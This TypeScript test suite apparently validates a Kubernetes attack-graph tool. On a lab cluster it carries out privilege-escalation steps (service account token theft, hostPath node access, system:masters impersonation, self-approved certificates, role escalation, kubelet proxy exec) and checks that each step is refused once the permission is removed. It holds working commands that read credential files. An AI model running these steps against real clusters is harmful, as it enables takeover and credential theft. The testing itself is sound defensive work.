/**
 * Steps of attack paths, taken on a real cluster with the lower identity's own credentials: each gets what its edge claims, and
 * with its right or opening taken away it is refused. Whether the graph has the edge, and loses it, is asked of the same cluster.
 *
 * Not taken here: map-cloud-role (no EKS), kernel-module (the test kernel has no modules),
 * cgroup-release-agent and host-file-handles (they need a program of their own), runtime-socket (no client in the image),
 * rewrite-admission (needs a webhook that the API server reaches), log-symlink, control-plane-node (the node is none).
 */
import assert from "node:assert/strict";
import { after, before, suite, test } from "node:test";
import { type ClusterSnapshot, connect, loadLiveSnapshot, stringAt } from "@redoubt/kube";
import { type EdgeKind, attackGraph } from "@redoubt/posture";
import "reflect-metadata";
import * as x509 from "@peculiar/x509";
import { ApiClient, type ApiResponse } from "./api-client.ts";
import { AttackLab, type LabRule, requestWith, rule, whoAmI } from "./attack-lab.ts";
import type { ControlPlane } from "./control-plane.ts";
import { streamCommand } from "./stream-command.ts";
import { type ClusterWithNode, NODE_NAME, startClusterWithNode, whyNoNode } from "./node.ts";

const RBAC = "rbac.authorization.k8s.io";
const TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const MERGE = "application/merge-patch+json";

function phaseOf({ body }: ApiResponse): string | undefined {
  return stringAt(body, ["status", "phase"]);
}

suite("steps of attack paths, taken", { skip: whyNoNode() ?? false }, () => {
  let cluster: ClusterWithNode;
  let plane: ControlPlane;
  before(async () => {
    cluster = await startClusterWithNode();
    plane = cluster.plane;
  });
  after(() => cluster.stop());

  async function snapshot(): Promise<ClusterSnapshot> {
    const connection = await connect({ kubeconfig: plane.kubeconfig });
    try {
      return await loadLiveSnapshot(connection, {});
    } finally {
      connection.close();
    }
  }

  /** Whether the graph of the live cluster has an edge of a kind that starts in the lab's namespace or at its attacker's role. */
  async function hasEdge(kind: EdgeKind, namespace: string): Promise<boolean> {
    const { edges } = attackGraph(await snapshot());
    const starts = [
      `${namespace}-attacker`,
      `${namespace}:attacker`,
      `power run-pods ${namespace}`,
      `workload Pod ${namespace}/`,
    ];
    return edges.some(
      ({ kind: own, from }) =>
        own === kind &&
        starts.some((start) =>
          `${from} `.includes(start.endsWith("/") || start.startsWith("power") ? start : `${start} `),
        ),
    );
  }

  /** A lab whose attacker lacks exactly what the step needs. */
  async function without(
    namespace: string,
    rights: readonly LabRule[] = [],
    options: { readonly cluster?: boolean; readonly level?: string } = {},
  ): Promise<AttackLab> {
    return AttackLab.create(plane, `${namespace}-stopped`, [rule("get list", "pods services"), ...rights], options);
  }

  test("create-workload and run-as-account: a Pod of theirs has the victim's token", async () => {
    const lab = await AttackLab.create(plane, "create", [rule("create", "pods"), rule("get", "pods/log")]);
    const pod = lab.pod("thief", `cat ${TOKEN}`, { serviceAccountName: "victim" });
    assert.equal((await lab.attacker.post(lab.path("pods"), pod)).status, 201);
    await lab.outputOf("thief");
    const { body: token } = await lab.attacker.get(lab.path("pods/thief/log"));
    assert.equal(await lab.whoIs(String(token)), lab.victim);
    assert.ok(await hasEdge("create-workload", "create"));
    const stopped = await without("create");
    assert.equal((await stopped.attacker.post(stopped.path("pods"), pod)).status, 403);
    assert.ok(!(await hasEdge("create-workload", "create-stopped")));
  });

  test("change-workload: a Deployment of somebody else runs as the victim", async () => {
    const lab = await AttackLab.create(plane, "change", [rule("patch", "deployments", "apps")]);
    const deployment = {
      metadata: { name: "web" },
      spec: {
        replicas: 0,
        selector: { matchLabels: { app: "web" } },
        template: {
          metadata: { labels: { app: "web" } },
          spec: { containers: [{ name: "c", image: "example.com/web:1" }] },
        },
      },
    };
    await plane.admin.post(lab.path("deployments", "apps/v1"), deployment);
    const change = { spec: { template: { spec: { serviceAccountName: "victim" } } } };
    const { status, body } = await lab.attacker.send("PATCH", lab.path("deployments/web", "apps/v1"), change, MERGE);
    assert.equal(status, 200);
    assert.equal(stringAt(body, ["spec", "template", "spec", "serviceAccountName"]), "victim");
    assert.ok(await hasEdge("change-workload", "change"));
    const stopped = await without("change");
    await plane.admin.post(stopped.path("deployments", "apps/v1"), deployment);
    assert.equal(
      (await stopped.attacker.send("PATCH", stopped.path("deployments/web", "apps/v1"), change, MERGE)).status,
      403,
    );
    assert.ok(!(await hasEdge("change-workload", "change-stopped")));
  });

  test("privileged-pod, host-path-read and host-path-write: the node's files, and none at level baseline", async () => {
    const lab = await AttackLab.create(plane, "node-files", [rule("create", "pods")]);
    const volumes = [{ name: "root", hostPath: { path: "/" } }];
    const mount = { volumeMounts: [{ name: "root", mountPath: "/host" }] };
    const pod = lab.pod(
      "reader",
      "cat /host/proc/sys/kernel/ostype; touch /host/tmp/redoubt-step && ls /host/tmp/redoubt-step",
      { volumes },
      mount,
    );
    assert.equal((await lab.attacker.post(lab.path("pods"), pod)).status, 201);
    assert.equal(await lab.outputOf("reader"), "Linux\n/host/tmp/redoubt-step\n");
    assert.ok(await hasEdge("privileged-pod", "node-files"));
    assert.ok(await hasEdge("host-path-write", "node-files"));
    const stopped = await without("node-files", [rule("create", "pods")], { level: "baseline" });
    const refused = await stopped.attacker.post(stopped.path("pods"), pod);
    assert.equal(refused.status, 403);
    assert.match(String(Object(refused.body).message), /violates PodSecurity "baseline/);
    const { stopped: steps, edges } = attackGraph(await snapshot());
    assert.ok(steps.some(({ kind, by }) => kind === "privileged-pod" && by.includes("node-files-stopped")));
    assert.ok(!edges.some(({ kind, from }) => kind === "privileged-pod" && from.endsWith(" node-files-stopped")));
  });

  test("node-files: a hostPath Pod reads the token of another Pod of the node", async () => {
    const lab = await AttackLab.create(plane, "kubelet-files", [rule("create", "pods")]);
    await plane.admin.post(lab.path("pods"), lab.pod("bystander", "sleep 600", { serviceAccountName: "victim" }));
    await lab.until(async () => phaseOf(await plane.admin.get(lab.path("pods/bystander"))) === "Running");
    const uid = stringAt((await plane.admin.get(lab.path("pods/bystander"))).body, ["metadata", "uid"]) ?? "";
    const volumes = [{ name: "kubelet", hostPath: { path: plane.folder } }];
    const script = `cat /host/*/pods/${uid}/volumes/*projected/*/token`;
    await lab.attacker.post(
      lab.path("pods"),
      lab.pod(
        "reader",
        script,
        { volumes },
        { volumeMounts: [{ name: "kubelet", mountPath: "/host", readOnly: true }] },
      ),
    );
    assert.equal(await lab.whoIs(await lab.outputOf("reader")), lab.victim);
  });

  test("account-token: code in a workload is its ServiceAccount, and nobody without a mounted token", async () => {
    const lab = await AttackLab.create(plane, "token", []);
    await plane.admin.post(lab.path("pods"), lab.pod("with", `cat ${TOKEN}`, { serviceAccountName: "victim" }));
    await plane.admin.post(
      lab.path("pods"),
      lab.pod("bare", `cat ${TOKEN} 2>/dev/null || echo none`, {
        serviceAccountName: "victim",
        automountServiceAccountToken: false,
      }),
    );
    assert.equal(await lab.whoIs(await lab.outputOf("with")), lab.victim);
    assert.equal(await lab.outputOf("bare"), "none\n");
    const { edges, stopped } = attackGraph(await snapshot());
    assert.ok(edges.some(({ kind, from }) => kind === "account-token" && from === "workload Pod token/with"));
    assert.ok(stopped.some(({ kind, from }) => kind === "account-token" && from === "workload Pod token/bare"));
  });

  test("mounted-secret, list-secrets and secret-token: values and the victim's token out of Secrets", async () => {
    const lab = await AttackLab.create(plane, "secrets", [rule("list", "secrets")]);
    await plane.admin.post(lab.path("secrets"), {
      metadata: { name: "old", annotations: { "kubernetes.io/service-account.name": "victim" } },
      type: "kubernetes.io/service-account-token",
    });
    const tokens = async (): Promise<readonly string[]> => {
      const { body } = await lab.attacker.get(lab.path("secrets"));
      const items: unknown = Object(body).items;
      return Array.isArray(items) ? items.flatMap((item) => stringAt(item, ["data", "token"]) ?? []) : [];
    };
    await lab.until(async () => (await tokens()).length > 0);
    const [token = ""] = await tokens();
    assert.equal(await lab.whoIs(Buffer.from(token, "base64").toString()), lab.victim);
    assert.ok(await hasEdge("list-secrets", "secrets"));
    await plane.admin.post(
      lab.path("pods"),
      lab.pod(
        "app",
        "echo $TOKEN",
        {},
        { env: [{ name: "TOKEN", valueFrom: { secretKeyRef: { name: "old", key: "token" } } }] },
      ),
    );
    assert.equal(await lab.whoIs((await lab.outputOf("app")).trim()), lab.victim);
    const stopped = await without("secrets", [rule("get", "secrets", "", ["other"])]);
    assert.equal((await stopped.attacker.get(stopped.path("secrets"))).status, 403);
    assert.ok(!(await hasEdge("list-secrets", "secrets-stopped")));
  });

  test("token-secret: a Secret of theirs is filled with the victim's token", async () => {
    const lab = await AttackLab.create(plane, "fill", [rule("create get", "secrets")]);
    const secret = {
      metadata: { name: "mine", annotations: { "kubernetes.io/service-account.name": "victim" } },
      type: "kubernetes.io/service-account-token",
    };
    assert.equal((await lab.attacker.post(lab.path("secrets"), secret)).status, 201);
    const token = async (): Promise<string> =>
      stringAt((await lab.attacker.get(lab.path("secrets/mine"))).body, ["data", "token"]) ?? "";
    await lab.until(async () => (await token()) !== "");
    assert.equal(await lab.whoIs(Buffer.from(await token(), "base64").toString()), lab.victim);
    assert.ok(await hasEdge("token-secret", "fill"));
    const stopped = await without("fill", [rule("create", "secrets")]);
    assert.equal((await stopped.attacker.post(stopped.path("secrets"), secret)).status, 201);
    assert.equal((await stopped.attacker.get(stopped.path("secrets/mine"))).status, 403);
    assert.ok(!(await hasEdge("token-secret", "fill-stopped")));
  });

  test("request-token: the victim's token on request", async () => {
    const lab = await AttackLab.create(plane, "request", [rule("create", "serviceaccounts/token")]);
    const ask = { spec: { expirationSeconds: 600 } };
    const { body } = await lab.attacker.post(lab.path("serviceaccounts/victim/token"), ask);
    assert.equal(await lab.whoIs(stringAt(body, ["status", "token"]) ?? ""), lab.victim);
    assert.ok(await hasEdge("request-token", "request"));
    const stopped = await without("request", [rule("create", "serviceaccounts")]);
    assert.equal((await stopped.attacker.post(stopped.path("serviceaccounts/victim/token"), ask)).status, 403);
    assert.ok(!(await hasEdge("request-token", "request-stopped")));
  });

  test("impersonate-account, impersonate-user and impersonate-group: Secrets of kube-system as a member of system:masters", async () => {
    const lab = await AttackLab.create(plane, "impersonate", [rule("impersonate", "users groups serviceaccounts")], {
      cluster: true,
    });
    const token = await plane.serviceAccountToken("impersonate", "attacker");
    const secrets = "/api/v1/namespaces/kube-system/secrets";
    assert.equal((await requestWith(plane, token, secrets, {})).status, 403);
    assert.equal(
      (
        await requestWith(plane, token, secrets, {
          "impersonate-user": "anyone",
          "impersonate-group": "system:masters",
        })
      ).status,
      200,
    );
    assert.equal((await requestWith(plane, token, secrets, { "impersonate-user": "nobody" })).status, 403);
    const manager = { "impersonate-user": "system:kube-controller-manager" };
    assert.equal((await requestWith(plane, token, secrets, manager)).status, 200);
    assert.equal((await requestWith(plane, token, "/version", { "impersonate-user": lab.victim })).status, 200);
    for (const kind of ["impersonate-account", "impersonate-user", "impersonate-group"] as const)
      assert.ok(await hasEdge(kind, "impersonate"), kind);
    await without("impersonate", [rule("impersonate", "groups")], { cluster: true });
    const other = await plane.serviceAccountToken("impersonate-stopped", "attacker");
    assert.notEqual((await requestWith(plane, other, secrets, { "impersonate-group": "system:masters" })).status, 200);
    assert.ok(!(await hasEdge("impersonate-group", "impersonate-stopped")));
  });

  test("bind-role: cluster-admin for whoever may bind it", async () => {
    const rights = [rule("create", "clusterrolebindings", RBAC)];
    const lab = await AttackLab.create(plane, "bind", [...rights, rule("bind", "clusterroles", RBAC)], {
      cluster: true,
    });
    const binding = (namespace: string): object => ({
      metadata: { name: `${namespace}-grab` },
      roleRef: { apiGroup: RBAC, kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ kind: "ServiceAccount", namespace, name: "attacker" }],
    });
    assert.ok(await hasEdge("bind-role", "bind"));
    assert.equal((await lab.attacker.post(`/apis/${RBAC}/v1/clusterrolebindings`, binding("bind"))).status, 201);
    await lab.until(async () => (await lab.attacker.get("/api/v1/namespaces/kube-system/secrets")).status === 200);
    const stopped = await without("bind", rights, { cluster: true });
    const refused = await stopped.attacker.post(`/apis/${RBAC}/v1/clusterrolebindings`, binding("bind-stopped"));
    assert.equal(refused.status, 403);
    assert.match(String(Object(refused.body).message), /not currently held/);
    assert.ok(!(await hasEdge("bind-role", "bind-stopped")));
  });

  test("escalate-role: every right for whoever may add it to a role of theirs", async () => {
    const lab = await AttackLab.create(plane, "escalate", [rule("get patch escalate", "clusterroles", RBAC)], {
      cluster: true,
    });
    assert.ok(await hasEdge("escalate-role", "escalate"));
    const change = { rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] };
    const path = (namespace: string): string => `/apis/${RBAC}/v1/clusterroles/${namespace}-attacker`;
    assert.equal((await lab.attacker.send("PATCH", path("escalate"), change, MERGE)).status, 200);
    await lab.until(async () => (await lab.attacker.get("/api/v1/namespaces/kube-system/secrets")).status === 200);
    const stopped = await without("escalate", [rule("get patch", "clusterroles", RBAC)], { cluster: true });
    assert.equal((await stopped.attacker.send("PATCH", path("escalate-stopped"), change, MERGE)).status, 403);
    assert.ok(!(await hasEdge("escalate-role", "escalate-stopped")));
  });

  test("client-certificate: a login as anybody, approved by themselves", async () => {
    const group = "certificates.k8s.io";
    const signer = (name: string): LabRule => rule("approve", "signers", group, [name]);
    const rights = [
      rule("create get", "certificatesigningrequests", group),
      rule("update", "certificatesigningrequests/approval", group),
    ];
    const lab = await AttackLab.create(
      plane,
      "certificate",
      [...rights, signer("kubernetes.io/kube-apiserver-client")],
      { cluster: true },
    );
    const algorithm = { name: "ECDSA", namedCurve: "P-256", hash: "SHA-256" };
    const keys = await crypto.subtle.generateKey(algorithm, true, ["sign", "verify"]);
    const csr = await x509.Pkcs10CertificateRequestGenerator.create({
      name: "CN=somebody-else",
      keys,
      signingAlgorithm: algorithm,
    });
    const requests = `/apis/${group}/v1/certificatesigningrequests`;
    const spec = {
      request: Buffer.from(csr.toString("pem")).toString("base64"),
      signerName: "kubernetes.io/kube-apiserver-client",
      usages: ["client auth"],
    };
    const approve = async (client: ApiClient, name: string): Promise<number> => {
      const { body } = await client.post(requests, { metadata: { name }, spec });
      const conditions = [{ type: "Approved", status: "True", reason: "Test", message: "by itself" }];
      return (await client.put(`${requests}/${name}/approval`, { ...Object(body), status: { conditions } })).status;
    };
    assert.equal(await approve(lab.attacker, "mine"), 200);
    const certificate = async (): Promise<string> =>
      stringAt((await lab.attacker.get(`${requests}/mine`)).body, ["status", "certificate"]) ?? "";
    await lab.until(async () => (await certificate()) !== "");
    const key = x509.PemConverter.encode(await crypto.subtle.exportKey("pkcs8", keys.privateKey), "PRIVATE KEY");
    const client = new ApiClient({
      url: plane.url,
      ca: plane.ca.certificate,
      clientCertificate: { certificate: Buffer.from(await certificate(), "base64").toString(), key },
    });
    assert.equal(await whoAmI(client), "somebody-else");
    client.close();
    assert.ok(await hasEdge("client-certificate", "certificate"));
    const stopped = await without("certificate", [...rights, signer("example.com/other")], { cluster: true });
    assert.equal(await approve(stopped.attacker, "not-mine"), 403);
    assert.ok(!(await hasEdge("client-certificate", "certificate-stopped")));
  });

  test("kubelet-api: a command in the victim's Pod, past the API server's own exec", async () => {
    const lab = await AttackLab.create(plane, "kubelet", [rule("get create", "nodes/proxy")], { cluster: true });
    await plane.admin.post(lab.path("pods"), lab.pod("app", "sleep 600", { serviceAccountName: "victim" }));
    await lab.until(async () => phaseOf(await plane.admin.get(lab.path("pods/app"))) === "Running");
    const run = `/api/v1/nodes/${NODE_NAME}/proxy/run/kubelet/app/c?cmd=cat%20${encodeURIComponent(TOKEN)}`;
    const token = await plane.serviceAccountToken("kubelet", "attacker");
    const { body } = await requestWith(plane, token, run, {}, "POST");
    assert.equal(await lab.whoIs(String(body).trim()), lab.victim);
    assert.ok(await hasEdge("kubelet-api", "kubelet"));
    const stopped = await without("kubelet", [rule("get list", "nodes")], { cluster: true });
    assert.equal((await stopped.attacker.post(run, {})).status, 403);
    assert.ok(!(await hasEdge("kubelet-api", "kubelet-stopped")));
  });

  test("exec and attach: the victim's token printed by its own Pod", async () => {
    const lab = await AttackLab.create(plane, "exec", [rule("get", "pods/exec"), rule("get", "pods/attach")]);
    const script = `while true; do cat ${TOKEN}; echo; sleep 1; done`;
    await plane.admin.post(lab.path("pods"), lab.pod("app", script, { serviceAccountName: "victim" }));
    await lab.until(async () => phaseOf(await plane.admin.get(lab.path("pods/app"))) === "Running");
    const token = await plane.serviceAccountToken("exec", "attacker");
    const command = `pods/app/exec?container=c&stdout=true&command=cat&command=${encodeURIComponent(TOKEN)}`;
    const exec = await streamCommand(plane, token, lab.path(command));
    assert.equal(await lab.whoIs(exec.stdout), lab.victim);
    const attach = lab.path("pods/app/attach?container=c&stdout=true");
    const attached = await streamCommand(plane, token, attach, (stdout) => stdout.includes("\n"));
    assert.equal(await lab.whoIs(attached.stdout.trim().split("\n")[0] ?? ""), lab.victim);
    for (const kind of ["exec", "attach"] as const) assert.ok(await hasEdge(kind, "exec"), kind);
    const stopped = await without("exec");
    await plane.admin.post(stopped.path("pods"), stopped.pod("app", "sleep 600"));
    const other = await plane.serviceAccountToken("exec-stopped", "attacker");
    assert.equal((await streamCommand(plane, other, stopped.path(command))).status, 403);
    assert.equal(
      (await streamCommand(plane, other, stopped.path("pods/app/attach?container=c&stdout=true"))).status,
      403,
    );
    for (const kind of ["exec", "attach"] as const) assert.ok(!(await hasEdge(kind, "exec-stopped")), kind);
  });

  test("ephemeral-container: a container of theirs in the victim's Pod reads its token", async () => {
    const lab = await AttackLab.create(plane, "debug", [
      rule("patch", "pods/ephemeralcontainers"),
      rule("get", "pods pods/log"),
    ]);
    await plane.admin.post(lab.path("pods"), lab.pod("app", "sleep 600", { serviceAccountName: "victim" }));
    await lab.until(async () => phaseOf(await plane.admin.get(lab.path("pods/app"))) === "Running");
    const { body: pod } = await lab.attacker.get(lab.path("pods/app"));
    const volume = stringAt(pod, ["spec", "volumes", 0, "name"]) ?? "";
    const container = {
      name: "thief",
      image: "redoubt.test/busybox:1",
      imagePullPolicy: "Never",
      command: ["cat", TOKEN],
      volumeMounts: [{ name: volume, mountPath: "/var/run/secrets/kubernetes.io/serviceaccount" }],
    };
    const change = { spec: { ephemeralContainers: [container] } };
    const patch = "application/strategic-merge-patch+json";
    assert.equal(
      (await lab.attacker.send("PATCH", lab.path("pods/app/ephemeralcontainers"), change, patch)).status,
      200,
    );
    const log = async (): Promise<string> =>
      String((await lab.attacker.get(lab.path("pods/app/log?container=thief"))).body);
    await lab.until(async () => (await log()).startsWith("eyJ"));
    assert.equal(await lab.whoIs(await log()), lab.victim);
    assert.ok(await hasEdge("ephemeral-container", "debug"));
    const stopped = await without("debug");
    await plane.admin.post(stopped.path("pods"), stopped.pod("app", "sleep 600"));
    assert.equal(
      (await stopped.attacker.send("PATCH", stopped.path("pods/app/ephemeralcontainers"), change, patch)).status,
      403,
    );
    assert.ok(!(await hasEdge("ephemeral-container", "debug-stopped")));
  });

  test("change-pod-image: a running Pod takes the image they give it", async () => {
    const lab = await AttackLab.create(plane, "image", [rule("patch", "pods")]);
    await plane.admin.post(lab.path("pods"), lab.pod("app", "sleep 600"));
    const change = { spec: { containers: [{ name: "c", image: "example.com/thief:1" }] } };
    const patch = "application/strategic-merge-patch+json";
    const { body } = await lab.attacker.send("PATCH", lab.path("pods/app"), change, patch);
    assert.equal(stringAt(body, ["spec", "containers", 0, "image"]), "example.com/thief:1");
    assert.ok(await hasEdge("change-pod-image", "image"));
    const stopped = await without("image");
    await plane.admin.post(stopped.path("pods"), stopped.pod("app", "sleep 600"));
    assert.equal((await stopped.attacker.send("PATCH", stopped.path("pods/app"), change, patch)).status, 403);
    assert.ok(!(await hasEdge("change-pod-image", "image-stopped")));
  });

  test("relabel-namespace: a level that they take off themselves", async () => {
    const rights = [rule("create", "pods")];
    const lab = await AttackLab.create(plane, "relabel", [...rights, rule("patch", "namespaces")], {
      level: "restricted",
    });
    const pod = lab.pod("root", "true", {}, { securityContext: { privileged: true } });
    assert.equal((await lab.attacker.post(lab.path("pods?dryRun=All"), pod)).status, 403);
    assert.ok(await hasEdge("relabel-namespace", "relabel"));
    const change = { metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged" } } };
    assert.equal((await lab.attacker.send("PATCH", "/api/v1/namespaces/relabel", change, MERGE)).status, 200);
    await lab.until(async () => (await lab.attacker.post(lab.path("pods?dryRun=All"), pod)).status === 201);
    const stopped = await without("relabel", rights, { level: "restricted" });
    assert.equal(
      (await stopped.attacker.send("PATCH", "/api/v1/namespaces/relabel-stopped", change, MERGE)).status,
      403,
    );
    assert.ok(!(await hasEdge("relabel-namespace", "relabel-stopped")));
  });

  test("host-path-volume: the node's files at level baseline, through a PersistentVolume", async () => {
    const rights = [rule("create", "persistentvolumeclaims pods")];
    const lab = await AttackLab.create(plane, "volume", [...rights, rule("create", "persistentvolumes")], {
      cluster: true,
      level: "baseline",
    });
    const volume = {
      metadata: { name: "node-root" },
      spec: {
        capacity: { storage: "1Mi" },
        accessModes: ["ReadWriteOnce"],
        storageClassName: "",
        hostPath: { path: "/proc/sys/kernel" },
      },
    };
    assert.equal((await lab.attacker.post("/api/v1/persistentvolumes", volume)).status, 201);
    const claim = {
      metadata: { name: "root" },
      spec: {
        accessModes: ["ReadWriteOnce"],
        storageClassName: "",
        volumeName: "node-root",
        resources: { requests: { storage: "1Mi" } },
      },
    };
    assert.equal((await lab.attacker.post(lab.path("persistentvolumeclaims"), claim)).status, 201);
    const volumes = [{ name: "v", persistentVolumeClaim: { claimName: "root" } }];
    const pod = lab.pod("reader", "cat /v/ostype", { volumes }, { volumeMounts: [{ name: "v", mountPath: "/v" }] });
    assert.equal((await lab.attacker.post(lab.path("pods"), pod)).status, 201);
    assert.equal(await lab.outputOf("reader"), "Linux\n");
    assert.ok(await hasEdge("host-path-volume", "volume"));
    const stopped = await without("volume", rights, { cluster: true, level: "baseline" });
    assert.equal(
      (await stopped.attacker.post("/api/v1/persistentvolumes", { ...volume, metadata: { name: "other" } })).status,
      403,
    );
    assert.ok(!(await hasEdge("host-path-volume", "volume-stopped")));
  });

  test("privileged-container, host-pid and writable-proc: the node from inside, and not from a plain container", async () => {
    const lab = await AttackLab.create(plane, "escape", []);
    // This very process is one of the host's.
    const reads = `cat /proc/${process.pid}/root/proc/sys/kernel/ostype 2>/dev/null && echo host || echo no`;
    await plane.admin.post(
      lab.path("pods"),
      lab.pod("traces", reads, { hostPID: true }, { securityContext: { capabilities: { add: ["SYS_PTRACE"] } } }),
    );
    await plane.admin.post(
      lab.path("pods"),
      lab.pod("looks", reads, { hostPID: true }, { securityContext: { capabilities: { drop: ["ALL"] } } }),
    );
    const devices = "ls /dev | grep -c -E '^(kmsg|mem|loop-control|vda|sda|fuse)'";
    await plane.admin.post(
      lab.path("pods"),
      lab.pod("privileged", devices, {}, { securityContext: { privileged: true } }),
    );
    await plane.admin.post(lab.path("pods"), lab.pod("plain", `${devices} || true`));
    const core =
      "(cat /k/core_pattern > /tmp/same && cat /tmp/same > /k/core_pattern) 2>/dev/null && echo written || echo refused";
    const volumes = [{ name: "k", hostPath: { path: "/proc/sys/kernel" } }];
    await plane.admin.post(
      lab.path("pods"),
      lab.pod("kernel", core, { volumes }, { volumeMounts: [{ name: "k", mountPath: "/k" }] }),
    );
    await plane.admin.post(
      lab.path("pods"),
      lab.pod("kernel-read", core, { volumes }, { volumeMounts: [{ name: "k", mountPath: "/k", readOnly: true }] }),
    );
    assert.match(await lab.outputOf("traces"), /host\n$/);
    assert.equal(await lab.outputOf("looks"), "no\n");
    assert.ok(Number(await lab.outputOf("privileged")) > 0);
    assert.equal((await lab.outputOf("plain")).trim(), "0");
    assert.match(await lab.outputOf("kernel"), /written\n$/);
    assert.match(await lab.outputOf("kernel-read"), /refused\n$/);
    const { edges } = attackGraph(await snapshot());
    const kinds = (pod: string): readonly string[] =>
      edges
        .filter(({ from, to }) => from === `workload Pod escape/${pod}` && to.startsWith("node "))
        .map(({ kind }) => kind);
    assert.deepEqual(kinds("traces"), ["host-pid"]);
    assert.deepEqual(kinds("privileged"), ["privileged-container"]);
    assert.deepEqual(kinds("kernel"), ["writable-proc"]);
    for (const pod of ["looks", "plain", "kernel-read"]) assert.deepEqual(kinds(pod), []);
  });

  test("anonymous-access: what nobody in particular may read, and no more", async () => {
    const anonymous = new ApiClient({ url: plane.url, ca: plane.ca.certificate });
    assert.equal((await anonymous.get("/version")).status, 200);
    assert.equal((await anonymous.get("/api/v1/namespaces")).status, 403);
    anonymous.close();
  });
});
